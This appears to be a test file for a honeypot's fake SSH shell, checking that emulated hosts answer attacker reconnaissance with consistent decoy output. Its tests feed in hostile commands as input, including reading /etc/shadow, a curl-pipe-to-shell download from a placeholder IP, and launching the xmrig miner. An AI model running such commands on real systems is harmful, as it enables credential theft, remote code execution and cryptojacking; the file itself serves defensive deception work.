import { describe, expect, it } from 'vitest'
import type { EmulatorContext } from '../src/emulator.ts'
import { personaFor } from '../src/protocols-text/shell/persona.ts'
import { createShell } from '../src/protocols-text/shell/shell.ts'
import { personaForTest } from './persona.ts'

function context(seed: string, distro?: string): EmulatorContext {
  return {
    decky: 'd',
    service: 'ssh',
    bindAddress: '127.88.1.9',
    ports: [0],
    config: {},
    persona: personaForTest(seed, 'linux', distro),
    seed,
    hostname: 'SRV-ECHO-17',
    ...(distro ? { distro } : {}),
    emit: () => undefined,
  }
}

describe('fake shell', () => {
  const persona = personaFor(context('shell-seed', 'ubuntu22'))

  it('answers reconnaissance with persona-consistent output', () => {
    const root = createShell(persona, 'root')
    expect(root.run('uname -a').output).toMatch(
      /^Linux SRV-ECHO-17 5\.15\.0-\d+-generic #\d+-Ubuntu SMP \w{3} \w{3} +\d+ [\d:]{8} UTC 2024 x86_64 x86_64 x86_64 GNU\/Linux\n$/,
    )
    expect(root.run('cat /etc/os-release').output).toMatch(/^PRETTY_NAME="Ubuntu 22\.04\.\d LTS"/)
    expect(root.run('cat /etc/shadow').output).toMatch(
      /^root:\$y\$j9T\$[./0-9A-Za-z]{22}\$[./0-9A-Za-z]{43}:\d+:0:99999:7:::\n/,
    )
    expect(root.run('ps aux').output.split('\n')[0]).toBe(
      'USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND',
    )
    expect(root.run('ip a').output).toContain('inet 127.88.1.9/24')
    expect(root.run('cd /etc && pwd').output).toBe('/etc\n')
    expect(root.run('ls').output).toContain('passwd')
    expect(root.run('cat /etc/passwd | grep root').output).toContain('root:x:0:0:root:/root:/bin/bash\n')
    expect(root.run('curl -s http://203.0.113.5/x.sh | sh').output).toBe(
      'curl: (6) Could not resolve host: 203.0.113.5\n',
    )
    expect(root.run('xmrig --donate-level 1').output).toBe('-bash: xmrig: command not found\n')
    expect(root.run('exit')).toEqual({ output: '', exit: true })
  })

  it('keeps secrets from an unprivileged user and prompts with $', () => {
    const shell = createShell(persona, persona.humanUsers[0] as string)
    expect(shell.run('cat /etc/shadow').output).toBe('cat: /etc/shadow: Permission denied\n')
    expect(shell.prompt()).toBe(`${persona.humanUsers[0]}@SRV-ECHO-17:~$ `)
  })

  it('differs between deckies: users, kernel or banner come from the seed', () => {
    const personas = Array.from({ length: 8 }, (_, i) => personaFor(context(`decky-${i}`)))
    const stories = new Set(
      personas.map((p) => `${p.humanUsers.join(',')}|${p.kernel}|${p.sshVersion}|${p.mac}`),
    )
    expect(stories.size).toBe(8)
    expect(personaFor(context('decky-3'))).toMatchObject({
      humanUsers: personas[3]?.humanUsers,
      kernel: personas[3]?.kernel,
      sshVersion: personas[3]?.sshVersion,
    })
  })
})
